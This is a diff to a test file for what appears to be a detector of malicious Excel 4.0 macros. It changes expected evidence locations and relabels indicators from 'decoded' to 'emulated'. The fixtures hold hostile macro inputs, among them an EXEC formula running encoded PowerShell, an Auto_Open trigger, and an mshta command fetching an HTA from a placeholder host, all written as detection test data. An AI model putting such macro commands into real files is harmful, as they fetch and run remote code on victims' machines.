@@ -172,7 +172,7 @@ def test_names_in_disguise(name, format):  # noqa: A002
 def test_the_command_can_be_a_name():
     data = book("=EXEC(command)", names={"command": '"powershell -enc AAAA"', "Auto_Open": "Macro1!$A$1"})
     found = findings(data)
-    assert found["runs-interpreter"].evidence[0].where == "command"
+    assert [one.where for one in found["runs-interpreter"].evidence] == ["Macro1!A1", "command"]
 
 
 @pytest.mark.parametrize("format", FORMATS)
@@ -184,7 +184,7 @@ def test_texts_are_fetched_from_worksheets_that_the_macros_refer_to(format):  # 
         xlm={"Macro1": {"A1": "=FORMULA('It''s'!B2&'It''s'!C3&'It''s'!D4&\")\",A9)"}},
     )
     assert {"downloads", "calls-library", "split-command", "writes-formulas"} <= set(findings(data))
-    assert ("url", "http://host.invalid/a", "decoded") in indicators(data)
+    assert ("url", "http://host.invalid/a", "emulated") in indicators(data)
     assert "runs-interpreter" not in findings(data)
 
 
@@ -208,8 +208,8 @@ def test_results_that_were_stored_are_read_too():
 def test_addresses_and_commands_are_indicators():
     data = book('=EXEC("mshta http://host"&".invalid/a.hta")', '=ALERT("\\\\server.invalid\\share\\x")')
     assert indicators(data) == {
-        ("url", "http://host.invalid/a.hta", "decoded"),
-        ("command", "mshta http://host.invalid/a.hta", "decoded"),
+        ("url", "http://host.invalid/a.hta", "emulated"),
+        ("command", "mshta http://host.invalid/a.hta", "emulated"),
         ("path", "\\\\server.invalid\\share\\x", "literal"),
     }
 
